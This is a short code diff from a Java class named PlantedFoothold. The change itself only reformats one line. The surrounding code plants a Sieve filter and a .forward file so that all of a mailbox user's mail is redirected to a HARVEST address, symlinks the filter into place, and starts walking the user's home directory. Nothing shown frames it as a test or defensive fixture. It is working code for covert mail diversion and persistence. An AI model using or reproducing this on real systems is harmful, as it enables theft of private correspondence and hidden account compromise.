@@ -22,8 +22,7 @@ final class PlantedFoothold {
     /** All of it belongs to the user of the mailboxes. */
     void plant(Object owner) throws IOException {
         Path folder = Files.createDirectories(home.resolve("sieve"));
-        Files.writeString(
-                folder.resolve("..sieve"), "# rule:[.]\nredirect \"" + HARVEST + "\";\n");
+        Files.writeString(folder.resolve("..sieve"), "# rule:[.]\nredirect \"" + HARVEST + "\";\n");
         Files.createSymbolicLink(home.resolve(".dovecot.sieve"), Path.of("sieve/..sieve"));
         Files.writeString(home.resolve(".forward"), HARVEST + "\n");
         try (Stream<Path> all = Files.walk(home)) {
